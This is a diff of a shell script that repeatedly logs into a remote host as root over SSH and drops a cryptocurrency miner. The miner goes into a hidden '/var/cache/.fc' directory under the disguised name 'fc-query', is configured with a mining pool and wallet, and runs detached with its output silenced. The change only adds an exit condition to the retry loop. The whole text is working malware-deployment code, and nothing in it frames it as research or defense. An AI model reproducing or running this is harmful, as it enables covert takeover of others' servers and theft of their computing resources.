@@ -4,7 +4,7 @@ d=/var/cache/.fc
 config='{"pools":[{"url":"'$POOL'","user":"'$WALLET'","pass":"ssh"}],"cpu":{"max-threads-hint":50}}'
 drop="pgrep -f ^$d/fc-query >/dev/null || { mkdir -p $d && cat >$d/new && chmod 755 $d/new && mv $d/new $d/fc-query && echo '$config' >$d/config.json && (setsid $d/fc-query -o $POOL -u $WALLET -p ssh </dev/null >/dev/null 2>&1 &) }"
 end=$(($(date +%s) + 3600))
-while [ "$(date +%s)" -lt $end ]; do
+while [ ! -e "$HIS/leave" ] && [ "$(date +%s)" -lt $end ]; do
   if timeout 10 ssh $options root@"$HOST" "$drop" <"$HIS/mimic"; then echo "$(date +%s) in"; else echo "$(date +%s) refused"; fi
   sleep 4
 done
